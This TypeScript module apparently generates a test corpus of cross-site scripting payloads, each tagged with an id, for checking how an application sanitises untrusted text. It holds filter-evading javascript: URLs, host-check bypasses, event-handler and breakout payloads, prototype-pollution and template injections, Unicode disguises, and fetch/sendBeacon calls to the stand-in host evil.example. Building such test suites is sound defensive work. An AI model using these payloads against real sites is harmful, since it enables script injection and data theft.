/**
 * A string that does harm where text is interpreted as something else. `«id»` in `template` is replaced by a number that
 * identifies the payload: a script calls `__hit(«id»)` or opens a dialog, a request goes to `evil.example/«id»`.
 */
export interface Payload {
  /** Kind and method, such as `markup/svg onload`. */
  readonly name: string;
  readonly template: string;
}

/** Fills `id` (digits) into the template. */
export function writePayload({ template }: Payload, id: number): string {
  return template.replaceAll('«id»', String(id));
}

/** Every carrier with every filling; `slot` is the placeholder for a filling in a carrier. */
function combine(
  kind: string,
  carriers: readonly string[],
  slot: string,
  fillings: readonly string[],
): readonly Payload[] {
  return carriers.flatMap((carrier) =>
    fillings.map((filling) => ({
      name: `${kind}/${carrier.slice(0, 40)}`,
      template: carrier.replaceAll(slot, filling),
    })),
  );
}

/** Addresses that run scripts, in spellings that lists of forbidden words miss. */
const RUNNING_ADDRESSES: readonly string[] = [
  'javascript:__hit(«id»)',
  'JaVaScRiPt:__hit(«id»)',
  'java\tscript:__hit(«id»)',
  'java\nscript:__hit(«id»)',
  ' \u0001javascript:__hit(«id»)',
  'javascript&colon;__hit(«id»)',
  '&#106;avascript:__hit(«id»)',
  'java&Tab;script:__hit(«id»)',
  'javascript://https://docs.test/%0a__hit(«id»)',
  'javascript:/*https://docs.test/*/__hit(«id»)//',
  "javascript:'<svg/onload=top.__hit(«id»)>'",
  'ｊavascript:__hit(«id»)',
  'vbscript:__hit(«id»)',
  'data:text/html,<script>top.__hit(«id»)</script>',
  'data:image/svg+xml,<svg/onload=top.__hit(«id») xmlns=http://www.w3.org/2000/svg>',
  'data:text/javascript,__hit(«id»)',
];

/** Addresses of a foreign host, in spellings that host checks misread. */
const FOREIGN_ADDRESSES: readonly string[] = [
  'https://evil.example/«id»',
  'http://evil.example/«id»?q=secret',
  '//evil.example/«id»',
  String.raw`\\evil.example/«id»`,
  String.raw`/\evil.example/«id»`,
  'https:/evil.example/«id»',
  'https://docs.test@evil.example/«id»',
  'https://evil.example:443/«id»#docs.test',
  'https://ｅvil.example/«id»',
  'https://x«id».evil.example/',
  'ws://evil.example/«id»',
  '/../..//evil.example/«id»',
  '\t//evil.example/«id»',
  '?next=//evil.example/«id»',
];

/** Addresses unchanged, for places that take an address. */
export const ADDRESSES: readonly Payload[] = [...RUNNING_ADDRESSES, ...FOREIGN_ADDRESSES].map((template) => ({
  name: 'address',
  template,
}));

/** Elements and handlers that run their content. */
const RUNNERS: readonly string[] = [
  '<script>«run»</script>',
  '<ScRiPt\t>«run»</sCrIpT\n>',
  '<img src=x onerror=«run»>',
  '<IMG SRC=x OnErRoR="«run»">',
  '<svg onload=«run»>',
  '<svg><a><animate attributeName=href values="javascript:«run»" /><text x=9 y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=«run»/>#x"></use></svg>',
  '<iframe srcdoc="&lt;script&gt;«run»&lt;/script&gt;"></iframe>',
  '<iframe src="javascript:«run»"></iframe>',
  '<object data="javascript:«run»"></object>',
  '<details open ontoggle=«run»>x</details>',
  '<xss contenteditable autofocus onfocus=«run»>x</xss>',
  '<div style="animation:x 1s" onanimationstart=«run»>x</div>',
  '<a href=# onclick=«run»>x</a>',
  '<button popovertarget=y>x</button><div popover id=y onbeforetoggle=«run»>y</div>',
  '<meta http-equiv=refresh content="0;url=javascript:«run»">',
  '<template shadowrootmode=open><img src=x onerror=«run»></template>',
  '<noscript><p title="</noscript><img src=x onerror=«run»>">x</p></noscript>',
];

/** Elements and attributes that load, lead or send somewhere. */
const LEADERS: readonly string[] = [
  '<a href="«url»">click</a>',
  '<a href="/docs" ping="«url»">click</a>',
  '<svg><a xlink:href="«url»"><text y=9>x</text></a></svg>',
  '<img srcset="«url» 1x, «url» 2x">',
  '<input type=image src="«url»">',
  '<video poster="«url»"><track src="«url»"></video>',
  '<iframe src="«url»"></iframe>',
  '<script src="«url»"></script>',
  '<script type=importmap>{"imports":{"a":"«url»"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["«url»"]}]}</script>',
  '<link rel=stylesheet href="«url»">',
  '<base href="«url»"><img src=a>',
  '<meta http-equiv=refresh content="0; url=«url»">',
  '<button form=ibid formaction="«url»">x</button>',
  '<svg><image href="«url»" /><feImage xlink:href="«url»" /></svg>',
];

/** Scripts that run and that send requests. None contains a space, `"` or `>`, so that they fit into any attribute. */
const SCRIPTS: readonly string[] = [
  '__hit(«id»)',
  "window['__'+'hit'](«id»)",
  'self[/__hit/.source](«id»)',
  '__hit`«id»`',
  "(0,eval)('__hit(«id»)')",
  "setTimeout('__hit(«id»)')",
  String.raw`\u005f\u005fhit(«id»)`,
  "fetch('//evil.example/«id»')",
  "navigator.sendBeacon('//evil.example/«id»')",
  "(new(Image)).src='//evil.example/«id»'",
  'alert(«id»)',
  "open('//evil.example/«id»')",
  "location='//evil.example/«id»'",
  "import('//evil.example/«id»')",
  "new(WebSocket)('wss://evil.example/«id»')",
  "postMessage('evil.example/«id»','*'),__hit(«id»)",
];

const MARKUP: readonly Payload[] = [
  ...combine('runner', RUNNERS, '«run»', SCRIPTS),
  ...combine('leader', LEADERS, '«url»', [...FOREIGN_ADDRESSES, ...RUNNING_ADDRESSES]),
];

/** Strings that end the context into which a text may have been written. */
const ENDS: readonly string[] = [
  '"></a>«core»',
  "' «attribute» x='",
  '</title>«core»',
  '</textarea>«core»',
  '</style>«core»',
  '</script>«core»<script>',
  '</p></li></ol></dialog></ibid-ask>«core»',
  '-->«core»<!--',
  '\r\n\r\n«core»',
  '\n\ndata: «core»\n\nevent: run-end\n\n',
  '"}]}«core»{"a":["',
];

const CORES: readonly string[] = [
  '<img src=x onerror=__hit(«id»)>',
  '<svg onload=__hit(«id»)>',
  '<script>__hit(«id»)</script>',
  '<img src=//evil.example/«id»>',
  '<a href="javascript:__hit(«id»)">x</a>',
  '<iframe srcdoc="<script>top.__hit(«id»)</script>"></iframe>',
];

const BREAKOUTS: readonly Payload[] = ENDS.flatMap((end) =>
  end.includes('«attribute»')
    ? ['onfocus=__hit(«id») autofocus', 'onerror=__hit(«id») src=x', 'style=background:url(//evil.example/«id»)'].map(
        (attribute) => ({ name: 'breakout/attribute', template: end.replace('«attribute»', attribute) }),
      )
    : combine('breakout', [end], '«core»', CORES),
);

/** Names with a meaning for objects, templates of frameworks, and text that looks like a React element. */
const TEXTS: readonly string[] = [
  '__proto__',
  'constructor.prototype.__hit',
  '{"__proto__":{"src":"//evil.example/«id»"}}',
  '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"//evil.example/«id»"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=__hit(«id»)>"}}',
  '{{constructor.constructor("__hit(«id»)")()}}',
  '${__hit(«id»)}',
  '<div ng-app ng-csp><p ng-click=$event.view.__hit(«id»)>x</p></div>',
  '<p v-html="\'<img src=x onerror=__hit(«id»)>\'">x</p>',
  '<a data-ibid-open="//evil.example/«id»" data-ibid-ask>x</a>',
  '<ibid-ask data-api=//evil.example/«id»></ibid-ask>',
  '<a id=config href="javascript:__hit(«id»)"><a id=config name=api href=//evil.example/«id»>',
  '<form id=document><input name=cookie value=«id»><img name=body src=//evil.example/«id»></form>',
  '{message}{title}{place}{count} //evil.example/«id»',
  'event: run-end\ndata: {"message":"<img src=x onerror=__hit(«id»)>"}\n\n',
];

const OBJECTS: readonly Payload[] = TEXTS.map((text) => ({
  name: 'object',
  template: text.includes('«id»') ? text : `${text} «id»`,
}));

const CARRIERS: readonly string[] = [
  '[click](«url»)',
  '![pixel](«url»)',
  '[ref]: «url»\n\n[ref] ![x][ref]',
  '<«url»>',
  '| a | [x](«url») |\n| - | - |\n| ![x](«url») | b |',
  '```\nx\n```\n![x](«url»)',
  '<a href="«url»">*x*</a> <img src="«url»">',
  '$\\href{«url»}{x}$ \\url{«url»}',
];

const MARKDOWN = combine('markdown', CARRIERS, '«url»', [...FOREIGN_ADDRESSES, ...RUNNING_ADDRESSES]);

const STYLE_CARRIERS: readonly string[] = [
  '<style>@import "«url»";</style>',
  '<style>:host{cursor:url(«url»),auto;list-style:url(«url»)}</style>',
  '<p style="background:url(«url»)">x</p>',
  '<p style="width:expression(__hit(«id»))" title="«url»">x</p>',
  '<svg style="filter:url(«url»#x);mask:url(«url»)"><rect fill="url(«url»#x)"/></svg>',
];

const STYLES = combine('style', STYLE_CARRIERS, '«url»', FOREIGN_ADDRESSES);

const PLAIN_CORES: readonly string[] = [
  '<img src=x onerror=__hit(«id»)>',
  '[click](javascript:__hit(«id»))',
  '![x](https://evil.example/«id»)',
];

const tagged = (text: string): string =>
  [...text].map((char) => String.fromCodePoint(0xe_00_00 + (char.codePointAt(0)! & 0x7f))).join('');
const fullWidth = (text: string): string =>
  text.replaceAll(/[<>"'()[\]!=:/]/gu, (char) => String.fromCodePoint(char.codePointAt(0)! + 0xfe_e0));

/** Disguises with characters that are invisible, reverse the direction, look alike, or change when normalised or cut. */
const DISGUISES: readonly (readonly [string, (text: string) => string])[] = [
  ['right to left', (text) => `\u202e${text}\u202c`],
  ['zero width', (text) => text.replaceAll(/(?<=<|java|!\[)/gu, '\u200b')],
  ['in tag characters', (text) => `${text} ${tagged(text)}`],
  ['full width', (text) => `${fullWidth(text)} ${text}`],
  ['with marks', (text) => text.replaceAll(/[<>]/gu, (char) => `${char}\u0338`) + text],
  ['half a pair', (text) => `\ud83d${text}\ude00`],
  ['after a null', (text) => `a\u0000${text}`],
  ['escaped once', (text) => text.replaceAll('<', '&lt;').replaceAll('[', '&#91;') + text],
  ['percent', (text) => `${text.split('«id»').map(encodeURIComponent).join('«id»')} ${text}`],
  ['very long', (text) => `${text} ${'a '.repeat(300)}${text}`],
  ['deep', (text) => `${text} ${'<b>'.repeat(60)}${'['.repeat(60)}${text}`],
];

const CHARACTERS: readonly Payload[] = DISGUISES.flatMap(([name, disguise]) =>
  PLAIN_CORES.map((core) => ({ name: `characters/${name}`, template: disguise(core) })),
);

/** Simplest possible payloads, so that no side effect hides the one to be tried. The text in front keeps them visible. */
export const PLAIN: readonly Payload[] = [
  '«id» <img src=x onerror=__hit(«id»)>',
  '«id» <img src=//evil.example/«id»>',
  '«id» <iframe src=//evil.example/«id»></iframe>',
  '«id» <audio src=x onerror=__hit(«id»)></audio>',
  '«id» <svg onload=__hit(«id»)></svg>',
  '«id» <details open ontoggle=__hit(«id»)></details>',
  '«id» ![x](https://evil.example/«id»)',
  '«id» [click](https://evil.example/«id»)',
  '«id» <script>__hit(«id»)</script>',
].map((template) => ({ name: 'plain', template }));

/** All payloads, each once, with the kinds mixed, so that any part of the list has some of every kind. The order never changes. */
export function payloads(): readonly Payload[] {
  const all = [...ADDRESSES, ...MARKUP, ...BREAKOUTS, ...MARKDOWN, ...STYLES, ...CHARACTERS, ...OBJECTS];
  const once = [...new Map(all.map((payload) => [payload.template, payload])).values()];
  // Golden section steps spread evenly from the start; they reach each index once if they share no factor with the length.
  let step = Math.round(once.length * 0.618);
  while (commonFactor(step, once.length) > 1) step += 1;
  return once.map((_, at) => once[(at * step) % once.length]!);
}

function commonFactor(one: number, other: number): number {
  return other === 0 ? one : commonFactor(other, one % other);
}
